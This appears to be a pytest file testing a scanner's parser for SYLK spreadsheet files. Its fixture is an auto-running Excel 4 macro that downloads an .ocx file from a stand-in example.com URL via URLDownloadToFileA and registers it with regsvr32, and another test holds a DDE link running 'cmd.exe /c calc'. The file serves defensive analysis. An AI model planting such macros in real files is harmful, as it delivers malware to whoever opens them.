"""SYLK: macrosheets as lines of text."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.public_data import labelled

from mimawari.formats import Head
from mimawari.formats.budget import Budget
from mimawari.formats.kept import Kept
from mimawari.formats.office import slk
from mimawari.model import Blob, DefinedName, Formula, Gap, OfficeDocument, Origin, Reason, Sheet

MACRO = r'''ID;PWXL;N;E
O;E
NN;NAuto_open;ER1C2
NN;NHidden;H;E"kept"
C;X1;Y1;K"http://example.com/a;;b"
C;X2;Y1;K0;ECALL("urlmon","URLDownloadToFileA","JJCCBB",0,RC[-1],"..\x.ocx",0,0)
C;Y2;K0;EEXEC("regsvr32 ""..\x.ocx""")
C;X2;Y3;EHALT()
E
'''


def opened(data: bytes, name: str = "order.slk") -> tuple[OfficeDocument, list[Gap]]:
    document, *gaps = slk.opened(Blob(Origin("s", "l"), name, Kept.of(data)), Budget())
    assert isinstance(document, OfficeDocument)
    return document, [one for one in gaps if isinstance(one, Gap)]


def test_a_macrosheet() -> None:
    document, gaps = opened(MACRO.encode())
    assert (document.application, document.shell, gaps) == ("excel", "text", [])
    assert document.sheets == (Sheet(name="order", form="macrosheet"),)
    assert document.formulas == (
        Formula(sheet="order", cell="A1", value="http://example.com/a;b"),
        Formula(
            sheet="order",
            cell="B1",
            text='CALL("urlmon","URLDownloadToFileA","JJCCBB",0,A1,"..\\x.ocx",0,0)',
            value="0",
            folded='CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://example.com/a;b","..\\x.ocx",0,0)',
        ),
        Formula(sheet="order", cell="B2", text='EXEC("regsvr32 ""..\\x.ocx""")', value="0"),
        Formula(sheet="order", cell="B3", text="HALT()"),
    )
    assert document.defined_names == (
        DefinedName(name="_xlnm.Auto_Open", text="$B$1"),
        DefinedName(name="Hidden", text='"kept"', hidden=True),
    )


def test_the_public_sample() -> None:
    path = next(path for name, path in labelled("office_inert").items() if name.startswith("oletools/excel4_sample_macro.slk"))
    document, gaps = opened(path.read_bytes())
    assert [(one.cell, one.text, one.value) for one in document.formulas] == [
        ("A1", 'ALERT("This is a sample Excel 4 macro")', "FALSE"),
        ("A2", "HALT()", "TRUE"),
    ]
    assert [(one.name, one.text) for one in document.defined_names] == [("_xlnm.Auto_Open", "$A$1")]
    assert gaps == []


def test_a_link_to_another_program() -> None:
    document, _ = opened(b"ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\..\\cmd.exe /c calc'!_xlbgnm.A1\r\nE\r\n")
    assert document.fields == ("MSEXCEL|'\\..\\..\\cmd.exe /c calc'!_xlbgnm.A1",)


def test_an_honest_table() -> None:
    document, gaps = opened(b'ID;PSCALC3\nB;X2;Y2\nC;X1;Y1;K"item"\nC;X2;Y1;K12.5\nC;X2;Y2;K25;ER[-1]C*2\nE\n')
    assert document.sheets == (Sheet(name="order"),)
    assert (document.formulas, document.fields, document.defined_names, gaps) == ((), (), (), [])


@pytest.mark.parametrize(
    ("start", "is_one"),
    [(b"ID;PWXL", True), (b"id;p", True), (b"\xef\xbb\xbfID;P", True), (b"IDENTITY", False), (b"", False), (b"x,ID;P", False)],
)
def test_recognition(start: bytes, is_one: bool) -> None:
    assert slk.recognises(Head("a.csv", len(start), start, start)) is is_one


def test_what_is_too_long_is_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    _, gaps = opened(MACRO.encode() + b"C;X1;Y9;K" + b"1" * 70_000)
    assert gaps == []
    _, gaps = opened(b"ID;P\nO;E\nC;X1;Y9;EEXEC(" + b"1" * 70_000)
    assert [gap.reason for gap in gaps] == [Reason.TOO_LARGE]
    monkeypatch.setattr(slk, "MOST_LINES", 100)
    _, gaps = opened(b"ID;P\n" + b"C;X1\n" * 100)
    assert [gap.reason for gap in gaps] == [Reason.TOO_LARGE]


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.integers(0, len(MACRO) - 1), st.binary(min_size=1, max_size=4))
def test_flipped_bytes(at: int, flipped: bytes) -> None:
    data = MACRO.encode()
    opened(data[:at] + flipped + data[at + len(flipped) :])
